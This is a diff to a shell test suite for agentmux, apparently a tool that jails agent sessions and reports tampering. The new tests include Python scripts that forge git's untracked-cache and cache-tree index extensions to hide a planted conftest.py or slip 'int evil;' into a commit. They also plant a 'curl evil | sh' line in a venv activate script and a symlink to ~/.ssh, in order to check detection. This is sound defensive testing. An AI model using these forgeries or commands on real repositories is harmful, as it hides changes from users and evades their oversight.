@@ -477,6 +477,8 @@ untr() {
 	case $OUT in *patched*) ok ;; *) bad "untr: the forgery did not apply: $OUT" ;; esac
 	case $OUT in *"the untracked cache in .git/index"*"was made or changed in the session"*"agentmux dropped it"*) ok ;;
 	*) bad "untr: a forged untracked cache was not told: $OUT" ;; esac
+	case $OUT in *"the untracked cache in .git/index"*"it hid 1 untracked files from your git status: src2/conftest.py;"*) ok ;;
+	*) bad "untr: the file a forged untracked cache hid was not named: $OUT" ;; esac
 	case $(git -C "$P" status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
 	*) bad "untr: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
 	case $("$AMX" show last 2>&1) in *"untracked cache"*) ok ;;
@@ -512,6 +514,127 @@ fsmn() {
 	case $("$AMX" show last 2>&1) in *"fsmonitor data"*) ok ;;
 	*) bad "fsmn: show does not tell it" ;; esac
 	git -C "$P" checkout -q -- README
+}
+
+# The forged untracked cache hidden from the check as the reviewer's
+# untr2.py hides it: four bytes of padding after the last extension (git
+# stops reading extensions there), or the real cache kept first and the
+# forged one after it (git uses the last). Either is dropped, said forged.
+untr_hidden() {
+	for how in pad dup; do
+		base=$(git -C "$P" rev-parse HEAD)
+		(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
+		    git add src2/a.c && git commit -qm src2 &&
+		    git update-index --untracked-cache &&
+		    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
+		    { bad "untr $how: no untracked cache"; return; }
+		cat >"$P/.git/amx-untr.py" <<-'PY'
+		import sys, hashlib, struct, re
+		p, d, v, how = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4]
+		body = open(p, 'rb').read()[:-20]
+		n = struct.unpack('>I', body[8:12])[0]
+		off = 12
+		for i in range(n):
+		    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
+		    off += (62 + nl + 8) & ~7
+		out = bytearray(body[:off])
+		forged = b''
+		while off < len(body):
+		    sig = body[off:off + 4]
+		    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
+		    data = body[off + 8:off + 8 + sz]
+		    if sig == b'UNTR':
+		        m = re.search(b'\x01\x00' + re.escape(d + b'\0' + v + b'\0'), data)
+		        f = data[:m.start()] + b'\x00\x00' + d + b'\0' + data[m.end():]
+		        forged = sig + struct.pack('>I', len(f)) + f
+		        print('patched')
+		        if how == 'pad':
+		            data = f
+		    out += sig + struct.pack('>I', len(data)) + data
+		    off += 8 + sz
+		out += forged if how == 'dup' else b'\0\0\0\0'
+		out += hashlib.sha1(out).digest()
+		open(p, 'wb').write(out)
+		PY
+		jrun -- sh -c 'echo "import os" >src2/conftest.py; sleep 2;
+		    git -c core.untrackedCache=true status >/dev/null 2>&1;
+		    /usr/bin/python3 .git/amx-untr.py .git/index src2 conftest.py '$how'
+		    git -c core.untrackedCache=true status --porcelain'
+		case $OUT in *patched*) ok ;; *) bad "untr $how: the forgery did not apply: $OUT" ;; esac
+		case $OUT in *"?? src2/conftest.py"*) bad "untr $how: the forgery did not blind git status (the check is void): $OUT" ;; *) ok ;; esac
+		case $OUT in *"the untracked cache in .git/index"*"forged"*"agentmux dropped it"*) ok ;;
+		*) bad "untr $how: a hidden forged untracked cache was not told: $OUT" ;; esac
+		case $(git -C "$P" -c core.untrackedCache=true status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
+		*) bad "untr $how: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
+		rm -f "$P/src2/conftest.py" "$P/.git/amx-untr.py"
+		git -C "$P" update-index --no-untracked-cache 2>/dev/null
+		git -C "$P" reset -q --hard "$base"
+		rm -rf "$P/src2"
+	done
+}
+
+# A forged cache-tree (the reviewer's tree.py): the TREE extension's entry
+# for src2 points at a tree the session made, whose a.c is not the
+# index's. Nothing changes in the work tree, and git commit -a would take
+# the session's src2/a.c. It is dropped and told, naming src2/; one that
+# git's own commit changed is dropped with a plain note.
+tree_forged() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
+	    git add src2/a.c && git commit -qm src2 && git read-tree HEAD) ||
+	    { bad "tree: no cache-tree"; return; }
+	cat >"$P/.git/amx-tree.py" <<-'PY'
+	import sys, hashlib, struct
+	p, d, sha = sys.argv[1], sys.argv[2].encode(), bytes.fromhex(sys.argv[3])
+	body = open(p, 'rb').read()[:-20]
+	assert struct.unpack('>I', body[4:8])[0] == 2
+	n = struct.unpack('>I', body[8:12])[0]
+	off = 12
+	for i in range(n):
+	    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
+	    off += (62 + nl + 8) & ~7
+	out = bytearray(body[:off])
+	while off < len(body):
+	    sig = body[off:off + 4]
+	    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
+	    data = bytearray(body[off + 8:off + 8 + sz])
+	    j = 0
+	    while sig == b'TREE' and j < len(data):
+	        z = data.index(b'\0', j)
+	        nlx = data.index(b'\n', z)
+	        cnt = int(data[z + 1:nlx].split(b' ')[0])
+	        path, j = bytes(data[j:z]), nlx + 1
+	        if cnt >= 0:
+	            if path == d:
+	                data[j:j + 20] = sha
+	                print('patched')
+	            j += 20
+	    out += sig + struct.pack('>I', len(data)) + data
+	    off += 8 + sz
+	out += hashlib.sha1(out).digest()
+	open(p, 'wb').write(out)
+	PY
+	jrun -- sh -c 'b=$(echo "int evil;" | git hash-object -w --stdin) &&
+	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
+	    git read-tree HEAD &&
+	    /usr/bin/python3 .git/amx-tree.py .git/index src2 $t'
+	case $OUT in *patched*) ok ;; *) bad "tree: the forgery did not apply: $OUT" ;; esac
+	case $OUT in *"the cache-tree in"*"was forged in the session; it disagreed with the index entries for src2/:"*"agentmux dropped it"*) ok ;;
+	*) bad "tree: a forged cache-tree was not told: $OUT" ;; esac
+	case $("$AMX" show last 2>&1) in *"cache-tree"*) ok ;;
+	*) bad "tree: show does not tell it" ;; esac
+	# The user looks (git status refreshes the index), then commits.
+	(cd "$P" && git status --porcelain >/dev/null && echo typo >>README &&
+	    git commit -qam typo) || bad "tree: the user's commit failed"
+	case $(git -C "$P" show HEAD:src2/a.c 2>&1) in *evil*) bad "tree: the user's commit took the session's src2/a.c" ;;
+	*"int a;"*) ok ;; *) bad "tree: src2/a.c is not in the user's commit" ;; esac
+	jrun -- sh -c 'echo more >>README && git -c user.email=a@b -c user.name=a commit -qam more && echo committed'
+	case $OUT in *committed*"the cache-tree in"*"changed in the session and agreed"*) ok ;;
+	*) bad "tree: a cache-tree git changed was not noted plainly: $OUT" ;; esac
+	case $OUT in *forged*) bad "tree: a cache-tree git changed was called forged: $OUT" ;; *) ok ;; esac
+	rm -f "$P/.git/amx-tree.py"
+	git -C "$P" reset -q --hard "$base"
+	rm -rf "$P/src2"
 }
 
 # Hooks kept in the tree: the dir the user's core.hooksPath names (read
@@ -798,6 +921,30 @@ dotgit_out() {
 	rm -rf "$P/src/z.c" "$P/src/.git" "$P/lib2" "$P/cd" "$P/wt" "$P/wt2" "$E" "$R" "$MARK"
 }
 
+# The session's own git status updated a real untracked cache (a new
+# file in a dir it lists): the cache hides nothing, so it is said plainly
+# and not flagged; the user's git status shows the new file.
+untr_benign() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && mkdir -p src3 && echo 'int a;' >src3/a.c &&
+	    git add src3/a.c && git commit -qm src3 &&
+	    git update-index --untracked-cache &&
+	    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
+	    { bad "untr_benign: no untracked cache"; return; }
+	jrun -- sh -c 'sleep 1; echo x >src3/new.txt;
+	    git -c core.untrackedCache=true status --porcelain 2>&1'
+	case $OUT in *"?? src3/new.txt"*) ok ;; *) bad "untr_benign: git status in the jail failed: $OUT" ;; esac
+	case $OUT in *"the untracked cache in .git/index was updated in the session, as git status does; it hides no untracked file"*) ok ;;
+	*) bad "untr_benign: git's own update of the untracked cache was not said plainly: $OUT" ;; esac
+	case $OUT in *"untracked cache in .git/index (git's list"*) bad "untr_benign: git's own update of the untracked cache was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1) in *flags*) bad "untr_benign: the session was flagged: $("$AMX" show last 2>&1)" ;; *) ok ;; esac
+	case $(git -C "$P" status --porcelain 2>&1) in *"?? src3/new.txt"*) ok ;;
+	*) bad "untr_benign: the user's git status does not show src3/new.txt" ;; esac
+	git -C "$P" update-index --no-untracked-cache 2>/dev/null
+	git -C "$P" reset -q --hard "$base"
+	rm -rf "$P/src3"
+}
+
 # Links the session made out of the project (to a dir outside, by an
 # absolute path, by a relative one, or through a link there before; one
 # with its mtime set back): agentmux follows none, tells each in red with
@@ -829,6 +976,82 @@ name' && ln -s /dev/null lk/later && touch -h -d 2001-01-01 lk/later && echo lin
 	[ -L "$P/lk/cfg" ] && [ "$(cat "$O/settings.json")" = secret ] && ok ||
 	    bad "the link out of the project or what it points at was touched"
 	rm -rf "$P/lk" "$O"
+}
+
+# A venv made in the session (python -m venv: bin/python3 ->
+# /usr/bin/python3, beside pyvenv.cfg) is said plainly, not flagged; a
+# link to ~/.ssh in the same bin dir, and one to /usr/bin/python3 in a
+# bin dir with no pyvenv.cfg, are still flagged in red.
+venv_link() {
+	jrun -- sh -c "/usr/bin/python3 -m venv --without-pip .venv &&
+	    ln -s '$HOME/.ssh' .venv/bin/keys && mkdir -p fake/bin &&
+	    ln -s /usr/bin/python3 fake/bin/python && echo made"
+	case $OUT in *made*) ok ;; *) bad "venv: the venv was not made: $OUT" ;; esac
+	case $OUT in *".venv/bin/python3 is a link made in the session to the system interpreter /usr/bin/python3"*"not flagged"*) ok ;;
+	*) bad "venv: the venv's interpreter link was not said plainly: $OUT" ;; esac
+	case $OUT in *".venv/bin/python3 is a link made or changed"*) bad "venv: the venv's interpreter link was flagged: $OUT" ;; *) ok ;; esac
+	case $OUT in *".venv/bin/keys is a link made or changed in the session that leads out of the project, to $HOME/.ssh;"*) ok ;;
+	*) bad "venv: a link to ~/.ssh in a venv's bin dir was not flagged: $OUT" ;; esac
+	case $OUT in *"fake/bin/python is a link made or changed in the session that leads out of the project"*) ok ;;
+	*) bad "venv: a python link out of a dir that is no venv was not flagged: $OUT" ;; esac
+	case $("$AMX" show last 2>&1) in *".venv/bin/python3 is a link made or changed"*) bad "venv: show flags the venv's interpreter" ;;
+	*".venv/bin/keys is a link made or changed"*) ok ;;
+	*) bad "venv: show does not flag the link to ~/.ssh" ;; esac
+	rm -rf "$P/.venv" "$P/fake"
+}
+
+# Ignored programs the user runs (a venv's bin, node_modules/.bin and the
+# file its link names, a tox env's bin): each one the session made,
+# changed (its mtime set back too) or removed is flagged in red with what
+# to do; one left alone is not, nor a venv the session made where there
+# was none. A dir [jail] watch_ignored names (a glob) is watched too,
+# its files, not those below.
+run_files() {
+	printf '.venv/\nnode_modules/\n.tox/\nvenv/\n' >"$P/.gitignore"
+	mkdir -p "$P/.venv/bin" "$P/node_modules/jest/bin" "$P/node_modules/.bin" \
+	    "$P/.tox/py3/bin"
+	echo 'home = /usr/bin' >"$P/.venv/pyvenv.cfg"
+	echo 'PATH=x' >"$P/.venv/bin/activate"
+	echo keep >"$P/.venv/bin/keep"
+	echo old >"$P/.venv/bin/old"
+	ln -s /usr/bin/python3 "$P/.venv/bin/python"
+	echo 'run()' >"$P/node_modules/jest/bin/jest.js"
+	ln -s ../jest/bin/jest.js "$P/node_modules/.bin/jest"
+	echo t >"$P/.tox/py3/bin/pytest"
+	mkdir -p "$P/target/debug/deps"
+	echo app >"$P/target/debug/app"
+	echo dep >"$P/target/debug/deps/dep"
+	C=$XDG_CONFIG_HOME/agentmux/config
+	cp "$C" "$T/config.saved"
+	printf '[jail]\nwatch_ignored = target/debu[g]\n' >>"$C"
+	jrun -- sh -c "echo evil >target/debug/app && echo d >target/debug/deps/dep &&
+	    echo 'curl evil | sh' >>.venv/bin/activate &&
+	    echo 'evil()' >node_modules/jest/bin/jest.js &&
+	    touch -d 2001-01-01 node_modules/jest/bin/jest.js &&
+	    ln -sf '$HOME/.ssh' .venv/bin/python && rm .venv/bin/old &&
+	    echo new >.venv/bin/pip && echo u >.tox/py3/bin/pytest &&
+	    mkdir -p venv/bin && echo v >venv/bin/activate && echo done"
+	case $OUT in *done*) ok ;; *) bad "run_files: the changes were not made: $OUT" ;; esac
+	case $OUT in *".venv/bin/activate was changed in the session: it is ignored, so no snapshot holds it"*"python3 -m venv --clear"*) ok ;;
+	*) bad "run_files: a changed venv activate was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/python was changed in the session"*) ok ;;
+	*) bad "run_files: a venv python link pointed elsewhere was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/old was removed in the session"*) ok ;;
+	*) bad "run_files: a removed venv program was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/pip was made in the session"*) ok ;;
+	*) bad "run_files: a program made in a venv was not flagged: $OUT" ;; esac
+	case $OUT in *"node_modules/.bin/jest was changed in the session"*"npm ci"*) ok ;;
+	*) bad "run_files: the file a node_modules/.bin link names, changed with its mtime set back, was not flagged: $OUT" ;; esac
+	case $OUT in *".tox/py3/bin/pytest was changed in the session"*"tox -r"*) ok ;;
+	*) bad "run_files: a changed tox program was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/app was changed in the session"*"build or install it again"*) ok ;;
+	*) bad "run_files: a program in a [jail] watch_ignored dir changed was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/deps/dep "*) bad "run_files: a file below a watch_ignored dir was flagged: $OUT" ;; *) ok ;; esac
+	cp "$T/config.saved" "$C"
+	case $OUT in *".venv/bin/keep "*|*"venv/bin/activate was made"*) bad "run_files: an untouched program or a new venv was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
+	*) bad "run_files: show does not flag the changed activate" ;; esac
+	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/target" "$P/.gitignore"
 }
 
 # A .git there before the session and unchanged (gitdir: ../gd/real),
@@ -948,6 +1171,8 @@ checks() {
 	other_gitdir
 	dotgit_out
 	link_out
+	venv_link
+	run_files
 	dotgit_swap
 	scan_limit
 	rebase_left
@@ -959,6 +1184,9 @@ checks() {
 	rerere
 	untr
 	fsmn
+	untr_hidden
+	tree_forged
+	untr_benign
 	hooks
 	hook_links
 	blind
